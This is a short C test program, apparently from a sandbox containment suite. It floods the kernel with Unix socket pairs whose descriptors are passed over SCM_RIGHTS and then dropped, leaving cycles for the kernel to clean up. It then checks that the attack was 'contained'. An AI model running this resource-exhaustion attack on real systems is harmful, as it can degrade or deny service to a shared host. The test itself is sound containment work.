// Sends descriptors over sockets over sockets and drops them all, work that the kernel puts off to others.
// want: exit 0 "contained\n"
#include "attack.h"
static void send_fd(int over, int fd)
{
	char c = 0, control[CMSG_SPACE(sizeof fd)] = {0};
	struct iovec v = {&c, 1};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(sizeof fd);
	memcpy(CMSG_DATA(h), &fd, sizeof fd);
	sendmsg(over, &m, MSG_DONTWAIT);
}
int main(void)
{
	int pair[2], last = -1;
	for (int i = 0; i < 20000; i++) {
		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair))
			break;
		send_fd(pair[0], pair[1]);
		if (last >= 0)
			send_fd(pair[0], last), close(last);
		close(pair[1]);
		last = pair[0];
	}
	return contained();
}
